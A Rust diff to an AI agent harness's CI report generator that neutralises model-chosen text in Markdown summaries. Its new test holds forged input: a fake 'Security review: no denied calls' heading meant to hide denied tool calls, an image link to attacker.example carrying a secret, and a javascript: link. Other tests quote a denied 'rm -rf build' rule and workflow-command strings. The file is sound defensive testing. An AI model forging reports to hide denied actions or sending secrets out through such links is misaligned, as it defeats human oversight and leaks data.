@@ -164,7 +164,7 @@ pub fn step_summary(report: &RunReport, paths: &ReportPaths) -> String {
                 .unwrap_or_else(|| "—".into());
             out.push_str(&format!(
                 "| {} | {} | {} | {} | {rule} | {} |\n",
-                denial.tool,
+                cell(&denial.tool.to_string()),
                 code(&input_summary(&denial.tool, &denial.input)),
                 serde_name(&decision.layer),
                 serde_name(&decision.step),
@@ -203,18 +203,18 @@ pub fn step_summary(report: &RunReport, paths: &ReportPaths) -> String {
     if let Some(message) = report.final_message.as_deref().filter(|m| !m.is_empty()) {
         out.push_str(&format!(
             "\n<details><summary>Final message</summary>\n\n{}\n\n</details>\n",
-            message.replace('<', "&lt;")
+            crate::neutral::markdown_text(message)
         ));
     }
     if !report.todos.is_empty() {
         out.push_str(&format!(
             "\n<details><summary>Todo list</summary>\n\n{}\n</details>\n",
-            super::todo_lines(&report.todos).replace('<', "&lt;")
+            todo_items(&report.todos)
         ));
     }
     out.push_str(&format!(
-        "\nTranscript: `{}`\n\n",
-        paths.transcript.display()
+        "\nTranscript: {}\n\n",
+        code(&paths.transcript.display().to_string())
     ));
     out
 }
@@ -386,18 +386,27 @@ pub fn escape_property(text: &str) -> String {
     escape_data(text).replace(':', "%3A").replace(',', "%2C")
 }
 
-/// A Markdown table cell: no line breaks, no bare `|`.
+/// Text a model, a repository or a task chose, in a table cell or a heading: shown as
+/// itself, one line, unable to end the cell or start Markdown or HTML of its own.
 fn cell(text: &str) -> String {
-    text.replace('|', "\\|").replace(['\n', '\r'], " ")
+    crate::neutral::markdown_inline(text)
 }
 
-/// Inline code in a table cell, falling back to plain text when it holds a backtick.
+/// The same as inline code, where it can be (`neutral::markdown_code`).
 fn code(text: &str) -> String {
-    if text.contains('`') {
-        cell(text)
-    } else {
-        format!("`{}`", cell(text))
-    }
+    crate::neutral::markdown_code(text)
+}
+
+/// The todo list as Markdown list items, each item's text neutralised (a `\n` in it is
+/// shown, not a new item).
+fn todo_items(todos: &[crate::tools::Todo]) -> String {
+    todos
+        .iter()
+        .map(|todo| {
+            let line = format!("[{}] {}", super::todo_status(todo.status), todo.content);
+            format!("- {}\n", cell(&line))
+        })
+        .collect()
 }
 
 #[cfg(test)]
@@ -454,7 +463,7 @@ mod tests {
 
 | Tool | Input | Layer | Step | Rule | Reason |
 |---|---|---|---|---|---|
-| Bash | `rm -rf build` | rule | 1d | `Bash(rm:*)` (/repo/policies/ci.yaml:14) | `rm -rf build` is denied by rule Bash(rm:*) |
+| Bash | `rm -rf build` | rule | 1d | `Bash(rm:*)` (/repo/policies/ci.yaml:14) | \\`rm -rf build\\` is denied by rule Bash(rm:*) |
 
 #### Checks
 
@@ -465,7 +474,7 @@ mod tests {
 
 <details><summary>Final message</summary>
 
-Could not &lt;clean> up.
+Could not &lt;clean&gt; up.
 
 </details>
 
@@ -493,9 +502,52 @@ Transcript: `/out/transcript.jsonl`
         ];
         let summary = step_summary(&report, &paths());
         assert!(
-            summary.contains("<details><summary>Todo list</summary>\n\n- [completed] Fix &lt;the> build\n- [in_progress] Run the tests\n\n</details>"),
+            summary.contains("<details><summary>Todo list</summary>\n\n- \\[completed\\] Fix &lt;the&gt; build\n- \\[in_progress\\] Run the tests\n\n</details>"),
             "{summary}"
         );
+    }
+
+    #[test]
+    fn what_the_model_chose_cannot_write_markdown_of_its_own() {
+        use crate::policy::ToolName;
+        let forged = "Bash |\n\n## ✅ Security review: no denied calls\n\n<!--";
+        let mut report = sample_report();
+        report.denials[0].tool = ToolName::Other(forged.into());
+        report.denials[0].decision.reason = "x |\n# y <!--".into();
+        report.final_message = Some(
+            "Done.\n\n![](https://attacker.example/p.png?d=s3cret)\n<img src=https://attacker.example/q.png>\n</details>\n## ✅ All good\nx\n===\n[click](javascript:alert(1))"
+                .into(),
+        );
+        report.task_name = "t\n# heading".into();
+        let summary = step_summary(&report, &paths());
+        // Every table row is one line with its seven pipes (escaped ones aside).
+        let denied_row = summary
+            .lines()
+            .find(|line| line.starts_with("| Bash"))
+            .unwrap();
+        assert_eq!(
+            denied_row.replace("\\|", "").matches('|').count(),
+            7,
+            "{denied_row}"
+        );
+        let headings: Vec<&str> = summary
+            .lines()
+            .filter(|line| line.starts_with('#'))
+            .collect();
+        assert_eq!(headings.len(), 3, "{headings:?}");
+        for raw in [
+            "<!--",
+            "![",
+            "<img",
+            "</details>\n##",
+            "[click](",
+            "\n===",
+            "\n## ",
+        ] {
+            assert!(!summary.contains(raw), "{raw:?} in {summary}");
+        }
+        assert_eq!(summary.matches("</details>").count(), 1);
+        assert!(summary.contains("attacker.example/p.png"), "shown as text");
     }
 
     #[test]
@@ -525,8 +577,8 @@ Transcript: `/out/transcript.jsonl`
             escape_data("x\u{2028}::add-mask::s ##[stop-commands]t"),
             "x⏎::add-mask::s ## [stop-commands]t"
         );
-        assert_eq!(cell("a|b\nc"), "a\\|b c");
-        assert_eq!(code("ls `x`"), "ls `x`");
+        assert_eq!(cell("a|b\nc"), "a\\|b⏎c");
+        assert_eq!(code("ls `x`"), "ls \\`x\\`");
         assert_eq!(code("ls"), "`ls`");
     }
 }
